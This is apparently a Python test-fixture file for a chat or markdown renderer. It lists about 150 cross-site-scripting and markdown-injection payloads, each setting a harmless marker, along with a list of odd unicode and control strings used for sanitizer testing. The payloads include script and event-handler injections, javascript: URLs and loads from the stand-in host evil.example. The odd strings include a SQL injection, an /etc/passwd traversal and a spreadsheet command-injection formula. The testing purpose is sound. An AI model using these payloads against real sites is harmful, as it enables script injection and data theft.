"""What tries to become markup or script, and strings that break naive text handling. All our own; each would set `__pwn`."""

from __future__ import annotations

import itertools

PWN = "window.__pwn=1"
_JS = f"javascript:{PWN}"

_ELEMENTS = (
    *(f"<script{a}>{PWN}</script>" for a in ("", " ", "/x", " type=module", " src=data:text/javascript,window.__pwn=1")),
    f"<SCRIPT>{PWN}</SCRIPT >", f"<scr<script>ipt>{PWN}</scr</script>ipt>", f"<script\n>{PWN}</script\t>",
    f"<img src=x onerror={PWN}>", f"<img src='x' onerror='{PWN}'/>", f'<img src="x" onerror="{PWN}">',
    f"<IMG SRC=x OnErRoR={PWN}>", f"<img/src=x/onerror={PWN}>", f"<img src=x onerror\n=\n{PWN}>", f"<img src=x:x onerror={PWN} //",
    f"<svg onload={PWN}>", f"<svg/onload={PWN}>", f"<svg><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s>", f"<svg><a xlink:href='{_JS}'><text y=9>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={PWN}>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={PWN}></foreignObject></svg>", f"<svg><style><img src=x onerror={PWN}></style></svg>",
    f"<svg><set attributeName=href to='{_JS}'></svg>", f"<svg><title><img src=x onerror={PWN}></title></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}></style></mglyph></table></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={PWN}></annotation-xml></math>",
    f"<math href='{_JS}'>x</math>", f"<math><mi xlink:href='{_JS}'>x</mi></math>",
    f"<math><maction actiontype='statusline#{_JS}'>x</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={PWN}>",
    f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>", f"<noembed><img title='</noembed><img src=x onerror={PWN}>'>",
    f"<textarea></textarea><img src=x onerror={PWN}>", f"</textarea><script>{PWN}</script>", f"</title><script>{PWN}</script>",
    f"</style><script>{PWN}</script>", f"--><script>{PWN}</script>", f"<!--><img src=x onerror={PWN}>-->",
    f"<!-- --!><img src=x onerror={PWN}>", f"<![CDATA[<img src=x onerror={PWN}>]]>", f"<?xml ?><img src=x onerror={PWN}>",
    f"<template><img src=x onerror={PWN}></template>", f"<xmp><p title='</xmp><img src=x onerror={PWN}>'>",
    f"<plaintext><img src=x onerror={PWN}>", f"<style>@import 'data:text/css,*{{}}'</style><img src=x onerror={PWN}>",
    "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<meta http-equiv=refresh content='0;url={_JS}'>", "<base href=//evil.example/>",
    f"<iframe src='{_JS}'></iframe>", f"<iframe srcdoc='<script>parent.__pwn=1</script>'></iframe>", f"<iframe onload={PWN}></iframe>",
    f"<object data='{_JS}'></object>", f"<embed src='{_JS}'>", f"<applet code='{_JS}'></applet>",
    f"<video><source onerror={PWN}></video>", f"<video src=x onerror={PWN}>", f"<audio src=x onerror={PWN}>",
    f"<video onloadstart={PWN}><source></video>", f"<marquee onstart={PWN}>x</marquee>", f"<details open ontoggle={PWN}>x</details>",
    f"<input autofocus onfocus={PWN}>", f"<select autofocus onfocus={PWN}>", f"<textarea autofocus onfocus={PWN}>",
    f"<body onload={PWN}>", f"<html onclick={PWN}>", f"<div style='animation:x' onanimationstart={PWN}>x</div>",
    f"<x onpointerover={PWN}>x</x>", f"<x tabindex=1 autofocus onfocus={PWN}>", f"<button popovertarget=x>x</button><x popover id=x onbeforetoggle={PWN}>",
    f"<form action='{_JS}'><button>x</button></form>", f"<button formaction='{_JS}'>x</button>", f"<isindex action='{_JS}' type=submit>",
    f"<a href='{_JS}'>x</a>", f"<a href='JaVaScRiPt:{PWN}'>x</a>", f"<a href='java\tscript:{PWN}'>x</a>", f"<a href='&#106;avascript:{PWN}'>x</a>",
    f"<a href='\x01javascript:{PWN}'>x</a>", f"<a href='vbscript:{PWN}'>x</a>", f"<a href='data:text/html,<script>{PWN}</script>'>x</a>",
    f"<a href='#cite-1' onclick={PWN}>x</a>", "<a href='#cite-1' style='position:fixed;inset:0'>x</a>", "<a href='#cite-1&#10;x'>x</a>",
    "<a href='//evil.example' target=_blank>x</a>", "<a href=#erase id=erase name=turns>x</a>", f"<sup class='ref' onclick={PWN}>x</sup>",
    "<sup class='ref dock'>x</sup>", f"<p id=composer class=dock onclick={PWN}>x</p>", f"<p\x00 onclick={PWN}>x</p>",
    f"<p/onclick={PWN}/x>x", f"<p title=`x` onclick={PWN}>x", f'"><img src=x onerror={PWN}>', f"'><img src=x onerror={PWN}>",
    f'" onfocus="{PWN}" autofocus="', f"' onfocus='{PWN}' autofocus='", f"`;{PWN};`", f"';{PWN};//", f'";{PWN};//', f"</script><script>{PWN}</script>",
    f"{{{{constructor.constructor('{PWN}')()}}}}", f"${{{PWN}}}", "{{ 7*7 }}{% raw %}<%= 7*7 %>", f"&lt;img src=x onerror={PWN}&gt;",
    f"&#60;script&#62;{PWN}&#60;/script&#62;", f"&amp;lt;script&amp;gt;{PWN}", f"\\u003cscript\\u003e{PWN}", f"＜script＞{PWN}＜/script＞",
    f"%3Cscript%3E{PWN}%3C/script%3E", f"+ADw-script+AD4-{PWN}+ADw-/script+AD4-", f"\ufeff<script>{PWN}</script>", f"<\u200bscript>{PWN}</script>",
)  # fmt: skip
_MARKDOWN = (
    f"[x]({_JS})", f"[x](<{_JS}>)", f"[x](JAVASCRIPT:{PWN} \"t\")", f"[x](&#x6a;avascript:{PWN})", f"[x](java\\script:{PWN})",
    f"[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd249MTwvc2NyaXB0Pg==)", "[x](https://evil.example)", "[x](//evil.example)",
    f"[x][1]\n\n[1]: {_JS}", f"[1]\n\n[1]: {_JS} 'x'", f"[1][]\n\n[1]: https://evil.example", f"[1]({_JS})", "[1](https://evil.example)",
    f"![x]({_JS})", "![x](https://evil.example/x.png)", f'![x](x" onerror="{PWN})', f"![{PWN}][x]\n\n[x]: https://evil.example/p.png",
    f"<{_JS}>", "<https://evil.example>", "<evil@evil.example>", "https://evil.example/", "www.evil.example",
    f"[![x](https://evil.example/x.png)]({_JS})", f"# <script>{PWN}</script>", f"> > > <img src=x onerror={PWN}>", f"- - 1. <svg onload={PWN}>",
    f"```html\n<script>{PWN}</script>\n```", f"```\" onclick=\"{PWN}\nx\n```", f"    <script>{PWN}</script>", f"`<img src=x onerror={PWN}>`",
    f"**<img src=x onerror={PWN}>**", f"*<b*<img src=x onerror={PWN}>", f"~~<s onclick={PWN}>~~", f"x\n===\n<script>{PWN}</script>\n---",
    f"| a | <img src=x onerror={PWN}> |\n|---|---|\n| [x]({_JS}) | y |", f"<div>\n\n[x]({_JS})\n\n</div>", f"a<br onclick={PWN}>b",
    f"\x1b]8;;{_JS}\x07x\x1b]8;;\x07", f"\x1b[31m<script>{PWN}</script>\x1b[0m", "\x1b[2J\x1b[H", "[1[2][3]]", "[[1]](#cite-1)", "[٣] [²] [1234]",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = (*_ELEMENTS, *_MARKDOWN)

_PIECES = (
    "é", "e\u0301", "Ångström", "ﬁ", "ß", "İ", "ı", "ǆ", "ς", "日本語", "한글", "\u1112\u1161\u11ab", "العربية", "עברית", "ไทย", "हिन्दी", "ὕδωρ",
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇫🇷", "1️⃣", "𝕊𝕃𝔸", "𒀀", "\U0010fffd", "\u202eabc\u202c", "\u2066x\u2069", "\u200b", "\u200d", "\u00ad", "\ufeff",
    "\u2028", "\u2029", "\u0085", "\u00a0", "\u3000", "\u180e", "\ufffd", "\ufffe", "\uffff", "\ue000", "\U000e0041", "\u0300" * 40, "«»“”„‘’‹›…–—",
    "\x00", "\x07", "\x1b[31m", "\x7f", "\r\n", "\r", "\t", "\n\n", "\nevent: done\ndata: {}\n\n", "\n\nevent: error\n\n", "data: x\n\n", ": x\n\n",
    "id: 1\nretry: 0\n\n", "\\n\\n", "\\u0000", "%00%0a", '"}\n\ndata: {', "{{x}}", "${x}", "<b>&amp;</b>", "'; DROP TABLE turn; --", "NaN", "null",
    "undefined", "-0", "1e999", "\\", '"', "'", "`", "/../../etc/passwd", "=cmd|' /C calc'!A0", "+1", "@x", "Ω≈ç√∫˜µ≤", "¯\\_(ツ)_/¯",
)  # fmt: skip
ODD: tuple[str, ...] = (
    *(f"penalty {piece} clause?" for piece in _PIECES),
    *(f"{a}{b}?" for a, b in itertools.pairwise(_PIECES[::3])),
)
assert len(PAYLOADS) >= 145
assert len(ODD) >= 100
